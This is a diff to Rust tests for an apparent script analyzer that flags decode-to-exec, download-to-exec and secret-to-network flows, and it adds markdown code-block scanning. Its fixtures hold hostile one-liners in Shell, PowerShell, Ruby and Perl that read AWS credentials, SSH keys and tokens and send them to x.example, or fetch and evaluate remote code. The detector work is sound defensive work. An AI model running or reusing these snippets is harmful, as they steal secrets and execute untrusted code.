@@ -50,7 +50,9 @@ fn python_system_of_b64decode_is_decode_to_exec() {
     assert!(
         a.derived
             .iter()
-            .any(|d| d.text == "Y3VybCBodHRwczovL3gvaS5zaCB8IHNo" && d.how.contains("b64decode"))
+            .any(|d| d.text == "Y3VybCBodHRwczovL3gvaS5zaCB8IHNo"
+                && d.how.contains("b64decode")
+                && d.executed)
     );
     let f = &a.flows[0];
     assert_eq!((f.source.cap, f.sink.cap), (Cap::Decode, Cap::DynamicExec));
@@ -171,7 +173,11 @@ fn shell_decode_to_file_then_run() {
         "echo Y3VybCB4IHwgc2g= | base64 -d > /tmp/s\nsh /tmp/s\n",
         FlowKind::DecodeToExec,
     );
-    assert!(a.derived.iter().any(|d| d.text == "Y3VybCB4IHwgc2g="));
+    assert!(
+        a.derived
+            .iter()
+            .any(|d| d.text == "Y3VybCB4IHwgc2g=" && d.executed)
+    );
     flow(
         Lang::Shell,
         "echo aWQ= | base64 --decode | bash\n",
@@ -659,11 +665,41 @@ fn corpus_report() {
                 .unwrap_or(&f)
                 .to_string_lossy()
                 .to_string();
-            let Some(lang) = lang_of_file(&rel, &text) else {
+            // Scripts, and the fenced code blocks of markdown files.
+            let mut units: Vec<(Lang, String, usize)> = Vec::new();
+            if rel.ends_with(".md") {
+                let mut open: Option<(String, usize, String)> = None;
+                for (i, l) in text.lines().enumerate() {
+                    let fence = l.trim_start().starts_with("```");
+                    match open.take() {
+                        None if fence => {
+                            let info = l.trim_start().trim_start_matches('`').to_string();
+                            open = Some((info, i + 2, String::new()));
+                        }
+                        None => {}
+                        Some((info, start, body)) if fence => {
+                            if let Some(lang) = lang_of_fence(&info, &body) {
+                                units.push((lang, body, start));
+                            }
+                        }
+                        Some((info, start, mut body)) => {
+                            body.push_str(l);
+                            body.push('\n');
+                            open = Some((info, start, body));
+                        }
+                    }
+                }
+            } else if let Some(lang) = lang_of_file(&rel, &text) {
+                units.push((lang, text.clone(), 1));
+            }
+            let Some(lang) = units.first().map(|u| u.0) else {
                 continue;
             };
             scripts += 1;
-            let a = analyze(&rel, &text, lang, 1);
+            let mut a = Analysis::default();
+            for (l, body, start) in units {
+                a.extend(analyze(&rel, &body, l, start));
+            }
             if !a.flows.is_empty() {
                 with_flow += 1;
             }
@@ -680,7 +716,7 @@ fn corpus_report() {
                 );
             }
         }
-        println!("== {name}: {scripts} scripts, {with_flow} with a flow");
+        println!("== {name}: {scripts} files with code, {with_flow} with a flow");
     }
 }
 
@@ -932,4 +968,111 @@ fn more_variants() {
         }
     }
     assert!(failed.is_empty(), "{}", failed.join("\n"));
+}
+
+#[test]
+fn curl_flags_with_values_are_not_urls() {
+    let a = flow(
+        Lang::Shell,
+        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n",
+        FlowKind::DownloadToExec,
+    );
+    assert!(
+        a.flows[0].source.what.contains("https://sh.rustup.rs"),
+        "{}",
+        a.flows[0].source.what
+    );
+    let a = flow(
+        Lang::Python,
+        "import os, urllib.request\nurllib.request.urlopen('https://x.example', data=str(os.environ).encode())\n",
+        FlowKind::SecretToNetwork,
+    );
+    assert_eq!(
+        a.flows[0].sink.what,
+        "sends secret data to https://x.example"
+    );
+}
+
+#[test]
+fn console_transcripts_run_only_prompted_lines() {
+    let a = flow(
+        Lang::Shell,
+        "$ curl -s https://x.example/i | bash\nInstalled | ok\n",
+        FlowKind::DownloadToExec,
+    );
+    assert_eq!(
+        a.flows[0].sink.site.text,
+        "$ curl -s https://x.example/i | bash"
+    );
+    no_flow(Lang::Shell, "$ echo hi\nhi | bash\n");
+}
+
+#[test]
+fn lexed_language_egress_and_exec() {
+    use FlowKind::*;
+    let cases: &[(Lang, &str, FlowKind)] = &[
+        (
+            Lang::PowerShell,
+            "$k = Get-Content \"$env:USERPROFILE\\.aws\\credentials\"\nInvoke-RestMethod -Uri https://x.example/c -Method Post -Body $k\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::PowerShell,
+            "$t = $env:GITHUB_TOKEN\nInvoke-WebRequest -Uri \"https://x.example/?t=$t\"\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::PowerShell,
+            "& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://x.example/p')))\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::Ruby,
+            "require 'net/http'\nkey = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post_form(URI('https://x.example/k'), 'k' => key)\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::Ruby,
+            "eval(Base64.decode64('cHV0cyAx'))\n",
+            DecodeToExec,
+        ),
+        (
+            Lang::Perl,
+            "use MIME::Base64;\neval(decode_base64('cHJpbnQgMQ=='));\n",
+            DecodeToExec,
+        ),
+        (
+            Lang::Perl,
+            "my $ua = LWP::UserAgent->new;\nmy $k = $ENV{'AWS_SECRET_ACCESS_KEY'};\n$ua->post('https://x.example/c', { k => $k });\n",
+            SecretToNetwork,
+        ),
+    ];
+    let mut failed = Vec::new();
+    for (lang, src, k) in cases {
+        let a = run(*lang, src);
+        if !has_flow(&a, *k) {
+            failed.push(format!(
+                "{lang:?} {k:?}: {src}\n  facts: {:?}",
+                a.facts
+                    .iter()
+                    .map(|f| (f.cap, f.what.clone()))
+                    .collect::<Vec<_>>()
+            ));
+        }
+    }
+    assert!(failed.is_empty(), "{}", failed.join("\n"));
+}
+
+#[test]
+fn perl_blocks_keep_their_statements() {
+    flow(
+        Lang::Perl,
+        "use LWP::Simple;\nif ($ok) {\n    my $c = get('https://x.example/p');\n    eval($c);\n}\n",
+        FlowKind::DownloadToExec,
+    );
+    flow(
+        Lang::Perl,
+        "my $ua = LWP::UserAgent->new;\nmy $k = $ENV{'API_TOKEN'};\n$ua->post('https://x.example/c', { k => $k });\n",
+        FlowKind::SecretToNetwork,
+    );
 }
